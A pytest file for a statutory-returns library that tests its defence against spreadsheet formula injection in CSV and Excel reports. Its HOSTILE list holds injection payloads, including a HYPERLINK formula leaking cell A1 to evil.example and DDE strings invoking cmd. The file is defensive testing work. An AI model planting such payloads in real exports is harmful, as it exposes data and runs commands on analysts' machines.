"""Spreadsheet formula injection: the one neutralising core (statutory.engine.cells) and the
statutory library's own findings reports, which a council analyst opens in Excel."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from builders import make_return
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from statutory.engine import Context, Registry, run
from statutory.engine.cells import (
    DANGEROUS,
    csv_lines,
    frame_csv_chunks,
    neutralise,
    new_workbook,
    write_row,
)
from statutory.engine.reports import write_report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _dangerous(cell: object) -> bool:
    """A cell a spreadsheet would take as a formula: text (not a plain number) starting with
    one of the characters."""
    if not isinstance(cell, str) or not cell.startswith(DANGEROUS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


def test_numbers_dates_and_plain_text_are_left_alone() -> None:
    for value in (-5, -2.5, Decimal("-12.50"), 0, None, dt.date(2024, 3, 31), "North Tyneside"):
        assert neutralise(value) == value


@given(st.text())
def test_no_text_comes_out_dangerous(text: str) -> None:
    out = neutralise(text)
    assert not _dangerous(out)
    assert out in (text, "'" + text)


def test_csv_lines_quote_text_keep_numbers() -> None:
    text = "".join(csv_lines(["a", "b"], [[HOSTILE[0], -3], ["-1", None]]))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["a", "b"], ["'" + HOSTILE[0], "-3"], ["'-1", ""]]


def test_a_frame_is_neutralised_in_its_text_columns_only() -> None:
    frame = pl.DataFrame({"id": HOSTILE, "n": list(range(-3, 3))})
    text = b"".join(frame_csv_chunks(frame, rows_per_chunk=4)).decode()
    back = pl.read_csv(io.StringIO(text), infer_schema=False)
    assert back["id"].to_list() == ["'" + h for h in HOSTILE]
    assert back["n"].to_list() == [str(n) for n in range(-3, 3)]  # numbers stay numbers
    assert text.count("id,n") == 1  # one header however many slices


def test_categorical_columns_are_text_too() -> None:
    frame = pl.DataFrame({"code": HOSTILE}, schema={"code": pl.Categorical})
    text = b"".join(frame_csv_chunks(frame)).decode()
    assert pl.read_csv(io.StringIO(text))["code"].to_list() == ["'" + h for h in HOSTILE]


def test_a_workbook_writes_text_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    book = new_workbook(str(tmp_path / "x.xlsx"))
    sheet = book.add_worksheet()
    write_row(sheet, 0, 0, [HOSTILE[0], -4, "plain", None])
    book.close()
    row = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows(values_only=True))
    assert row == ("'" + HOSTILE[0], -4, "plain")  # None left blank


def _findings_with_hostile_ids():  # type: ignore[no-untyped-def]
    registry = Registry("903")

    @registry.rule("103", table="Header", fields=("ETHNIC",))
    def ethnic(ctx: Context) -> pl.DataFrame:
        header = ctx.table("Header")
        return header.filter(~pl.col("ETHNIC").is_in(ctx.codes("ETHNIC")).fill_null(False))

    return_ = make_return(
        Header=[
            {"CHILD": child, "ETHNIC": "=1+1", "DOB": "01/02/2010", "UPN": "@A1"}
            for child in HOSTILE
        ]
    )
    return run(registry, return_)


def test_findings_reports_carry_no_formula(tmp_path: Path) -> None:
    findings = _findings_with_hostile_ids()
    assert findings.frame.height == len(HOSTILE)
    frame = pl.read_csv(write_report(findings, tmp_path / "out.csv"), infer_schema=False)
    ids = findings.frame["child_id"].to_list()  # as read: trimmed and in capitals
    assert all(_dangerous(i) for i in ids)
    assert sorted(frame["child_id"]) == sorted("'" + i for i in ids)
    for column in frame.columns:
        assert not [c for c in frame[column].to_list() if _dangerous(c)], column
    book = load_workbook(write_report(findings, tmp_path / "out.xlsx"))
    cells = [c for sheet in book for row in sheet.iter_rows(values_only=True) for c in row]
    assert "'" + ids[0] in cells
    assert "'=1+1" in cells  # the table sheet's flagged ETHNIC cell
    assert not [c for c in cells if _dangerous(c)]
